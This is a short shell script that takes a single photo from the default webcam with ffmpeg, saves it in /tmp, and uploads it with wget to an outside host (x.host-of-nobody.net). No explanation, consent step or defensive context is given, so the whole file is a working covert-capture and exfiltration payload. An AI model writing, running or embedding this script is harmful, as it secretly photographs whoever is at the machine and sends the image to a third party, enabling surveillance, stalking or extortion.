#!/bin/sh
ffmpeg -y -f v4l2 -i /dev/video0 -frames 1 /tmp/a.jpg
wget --post-file=/tmp/a.jpg https://x.host-of-nobody.net
